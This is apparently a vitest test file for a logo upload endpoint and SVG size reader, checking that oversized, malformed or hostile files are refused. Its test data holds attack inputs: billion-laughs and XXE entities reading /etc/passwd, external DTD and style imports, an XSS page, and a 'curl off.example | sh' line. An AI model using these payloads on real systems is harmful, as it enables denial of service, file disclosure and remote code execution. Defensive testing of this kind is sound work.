import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type ProblemCode, Role } from "@saha/contract";
import sharp from "sharp";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import { refusalOf, sessionHeaders } from "../../test/caller.ts";
import { filesIn, form } from "../../test/form.ts";
import type { Member } from "../../test/given.ts";
import { openServer, type Server } from "../../test/harness.ts";
import { gifOf, jpegOf, noise, picture, pngOf, svg, webpOf } from "../../test/picture-bytes.ts";
import { ar } from "../text/ar.ts";
import { en } from "../text/en.ts";
import { openRenderer } from "./renderer.ts";
import { svgSize } from "./svg-source.ts";

let server: Server;
let admin: Member;

beforeAll(async () => {
  server = await openServer();
  admin = await server.given.user({ roleId: Role.Admin });
});
afterAll(() => server.close());
beforeEach(async () => {
  await server.query.updateTable("themes").set({ logo: null }).execute();
  const rows = await server.query.selectFrom("files").select("path").execute();
  await server.core.pictures.release(rows.map(({ path }) => path));
});

async function upload(bytes: Buffer, language: "ar" | "en" = "ar") {
  const headers = { ...sessionHeaders(admin), "accept-language": language };
  return server.send("PUT", "/api/main-theme", await form({ logo: { bytes } }, headers));
}

/** Processes that others started: read anew each time they would take more time than what is watched. */
const others = new Set<string>();

/** Megabytes that this process and those that it started hold for themselves, without what they map from files. */
function memory(): number {
  const own = (pid: string) => {
    try {
      const status = readFileSync(`/proc/${pid}/status`, "utf8");
      const isOurs = Number(pid) === process.pid || Number(/^PPid:\s+(\d+)/m.exec(status)?.[1]) === process.pid;
      if (!isOurs) others.add(pid);
      return isOurs ? Number(/^RssAnon:\s+(\d+)/m.exec(status)?.[1]) / 1024 : 0;
    } catch {
      return 0;
    }
  };
  const pids = readdirSync("/proc").filter((name) => /^\d+$/.test(name) && !others.has(name));
  return pids.reduce((sum, pid) => sum + own(pid), 0);
}

const use = (depth: number) =>
  Array.from({ length: depth }, (_, at) => `<g id="g${at + 1}">${`<use href="#g${at}"/>`.repeat(10)}</g>`).join("");
const laughs = [..."bcdefghij"].map((name, at) => `<!ENTITY ${name} "${`&${"abcdefghi"[at]};`.repeat(10)}">`).join("");
const doctype = (inside: string) =>
  Buffer.from(
    `<?xml version="1.0"?><!DOCTYPE svg ${inside}><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><text>&j;</text></svg>`,
  );
const blur = "<feGaussianBlur stdDeviation='500'/>".repeat(200);

const attacks: [string, ProblemCode, () => Buffer | Promise<Buffer>][] = [
  ["a JPEG header of 64,250 pixels", "file.too_many_pixels", () => jpegOf(64_250, 64_250)],
  ["a JPEG of one long side", "file.too_many_pixels", () => jpegOf(12_001, 1)],
  ["a PNG header of four billion pixels a side", "file.too_many_pixels", () => pngOf(0xffffffff, 0xffffffff)],
  ["a PNG over 50 megapixels, all of it there", "file.too_many_pixels", () => pngOf(8000, 6251, { rows: 6251 })],
  ["a GIF of 65,535 pixels a side", "file.too_many_pixels", () => gifOf(65_535, 65_535, 1)],
  ["a WebP of 16,000 pixels a side", "file.too_many_pixels", () => webpOf(16_000, 16_000)],
  ["a drawing with a huge viewBox", "file.too_many_pixels", () => svg('viewBox="0 0 1000000 1000000"')],
  ["a drawing with a huge width", "file.too_many_pixels", () => svg('width="1e9" height="1e9"')],
  ["a drawing of half a kilometre", "file.too_many_pixels", () => svg('width="500000mm" height="10mm"')],
  ["a billion laughs", "file.unsafe_drawing", () => doctype(`[<!ENTITY a "ha">${laughs}]`)],
  ["an entity that is a file", "file.unsafe_drawing", () => doctype('[<!ENTITY j SYSTEM "file:///etc/passwd">]')],
  ["an outside definition with entities", "file.unsafe_drawing", () => doctype('SYSTEM "http://off.example/x.dtd" []')],
  [
    "a style sheet from elsewhere",
    "file.unsafe_drawing",
    () => svg('viewBox="0 0 9 9"', "<style>@import 'https://off.example/x';</style>"),
  ],
  [
    "a picture from elsewhere",
    "file.unsafe_drawing",
    () => svg('viewBox="0 0 9 9"', '<image href="https://off.example/x.png"/>'),
  ],
  [
    "a picture from this machine",
    "file.unsafe_drawing",
    () => svg('viewBox="0 0 9 9"', "<image xlink:href='file:///etc/passwd'/>"),
  ],
  [
    "a drawing within a drawing",
    "file.unsafe_drawing",
    () => svg('viewBox="0 0 9 9"', '<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
  ],
  [
    "a filter that blurs for long",
    "file.unsafe_drawing",
    () =>
      svg(
        'viewBox="0 0 999 999"',
        `<filter id="f" x="-9" y="-9" width="30" height="30">${blur}</filter><rect width="900" height="900" filter="url(#f)"/>`,
      ),
  ],
  ["a depth of 100,000", "file.broken", () => svg('viewBox="0 0 9 9"', "<g>".repeat(100_000) + "</g>".repeat(100_000))],
  ["a drawing without a size", "file.broken", () => svg('width="0" height="0"')],
  ["a drawing that never closes", "file.broken", () => svg('viewBox="0 0 9 9"').subarray(0, 90)],
  ["a JPEG that is only a header", "file.broken", () => jpegOf(500, 500)],
  ["a PNG with a tenth of its rows", "file.broken", () => pngOf(1000, 1000, { rows: 100 })],
  ["half a PNG", "file.broken", async () => half(await picture("png", { width: 900, height: 700 }))],
  ["half a JPEG", "file.broken", async () => half(await noise("jpeg"))],
  ["half a WebP", "file.broken", async () => half(await noise("webp"))],
  ["a GIF that is only a header", "file.broken", () => Buffer.from("GIF89a\x40\0\x40\0\0\0\0", "latin1")],
  ["three bytes of JPEG", "file.broken", () => Buffer.from([0xff, 0xd8, 0xff])],
  [
    "a program under another name",
    "file.not_image",
    () => Buffer.from("MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff", "latin1"),
  ],
  ["a program of Linux", "file.not_image", () => readFileSync(process.execPath).subarray(0, 100_000)],
  [
    "a page",
    "file.not_image",
    () => Buffer.from("<!DOCTYPE html><html><script>alert(1)</script><svg onload=alert(1)>"),
  ],
  ["a script", "file.not_image", () => Buffer.from("#!/bin/sh\ncurl off.example | sh")],
  ["a PDF", "file.not_image", () => Buffer.from("%PDF-1.7\n1 0 obj\n<</Type/Catalog>>")],
  ["an archive", "file.not_image", () => Buffer.from("PK\x03\x04\x14\0\0\0", "latin1")],
  [
    "a TIFF",
    "file.not_image",
    async () =>
      sharp(await picture("png"))
        .tiff()
        .toBuffer(),
  ],
  ["zeros", "file.not_image", () => Buffer.alloc(1_000_000)],
  ["an empty text", "file.not_image", () => Buffer.from(" \n")],
];

const half = (bytes: Buffer) => bytes.subarray(0, bytes.length >> 1);

test("each attack gets its sentence, stores nothing, and takes less than 200 MB", async () => {
  const made = await Promise.all(attacks.map(async ([name, code, make]) => ({ name, code, bytes: await make() })));
  const rest = memory();
  let most = rest;
  const watch = setInterval(() => {
    most = Math.max(most, memory());
  }, 25);
  for (const { name, code, bytes } of made) {
    const refusal = refusalOf(await upload(bytes, "en"));
    const message = en[code];
    expect(refusal, name).toMatchObject({ code, message, issues: [{ field: "logo", message }] });
    expect(filesIn(server.core.config.dataDir), name).toEqual([]);
  }
  clearInterval(watch);
  expect(refusalOf(await upload(jpegOf(64_250, 64_250))).message).toBe(ar["file.too_many_pixels"]);
  expect(await server.query.selectFrom("files").selectAll().execute()).toEqual([]);
  expect(rest).toBeGreaterThan(20);
  expect(most - rest).toBeLessThan(200);
  // And the next picture is drawn as if nothing had been.
  expect((await upload(await picture("png"))).status).toBe(200);
});

test.for<[string, () => Buffer]>([
  [
    "ten to the twentieth shapes",
    () => svg('viewBox="0 0 9 9"', `<g id="g0"><rect width="1" height="1"/></g>${use(20)}`),
  ],
  ["a source that is slow to search", () => Buffer.from(`<svg ${'a="<svg '.repeat(400_000)}`)],
])("what takes too long is ended, and the next picture drawn: %s", async ([, make]) => {
  const folder = mkdtempSync(join(tmpdir(), "saha-render-"));
  const [from, to] = [join(folder, "from"), join(folder, "to")];
  const renderer = openRenderer({ timeout: 1500, drawingTimeout: 1500 });
  try {
    writeFileSync(from, make());
    await expect(renderer.render(from, to)).rejects.toMatchObject({ code: "file.broken" });
    expect(readdirSync(folder)).toEqual(["from"]);
    const unhurried = openRenderer();
    writeFileSync(from, await picture("png"));
    await unhurried.render(from, to);
    unhurried.close();
    expect((await sharp(readFileSync(to)).metadata()).format).toBe("webp");
  } finally {
    renderer.close();
    rmSync(folder, { recursive: true });
  }
});

test.for<[string, string, boolean]>([
  ["ten to the seventh", use(7), false],
  [
    "a chain of thousands",
    Array.from({ length: 60_000 }, (_, at) => `<g id="g${60_000 - at}"><use xlink:href="#g${59_999 - at}"/></g>`).join(
      "",
    ),
    false,
  ],
  ["one that uses itself", `<g id="g1"><use href="#g1"/></g>`, true],
  ["as many as a pattern of a person", use(3), true],
])("shapes that multiply are counted before anything is drawn: %s", async ([, groups, isFine]) => {
  const bytes = svg('viewBox="0 0 9 9"', `<g id="g0"><rect width="1" height="1"/></g>${groups}`);
  const began = performance.now();
  if (isFine) expect(svgSize(bytes)).toEqual({ width: 9, height: 9 });
  else expect(() => svgSize(bytes)).toThrow(expect.objectContaining({ code: "file.broken" }));
  expect(performance.now() - began).toBeLessThan(2_000);
});

test.each([
  ["a length of letters", `width="1${"e".repeat(100_000)}!"`, ""],
  ["a length of blanks", `width="1${" ".repeat(100_000)}!"`, ""],
  ["definitions in a text", "", "<!DOCTYPE".repeat(20_000)],
])("%s is read in no time", (_what, attributes, inner) => {
  const from = process.threadCpuUsage();
  const read = () => svgSize(svg(`viewBox="0 0 9 9" ${attributes}`, inner));
  if (inner) expect(read).toThrow(expect.objectContaining({ code: "file.broken" }));
  else expect(read()).toEqual({ width: 9, height: 9 });
  const { user } = process.threadCpuUsage(from);
  expect(user / 1000).toBeLessThan(1000);
});

test.each([
  ["2in", 192],
  [" 1.5e2 ", 150],
  ["+10px", 10],
  ["2em", 32],
  ["50%", 9],
  ["-3", 9],
])("a width of %j claims %d pixels of a drawing of nine", (width, pixels) => {
  expect(svgSize(svg(`viewBox="0 0 9 9" width="${width}"`, "")).width).toBe(pixels);
});

test("a picture of 50 megapixels, the most that is taken, is drawn", async () => {
  const answer = await upload(pngOf(10_000, 5000, { rows: 5000 }));
  expect(answer.status, answer.text).toBe(200);
});
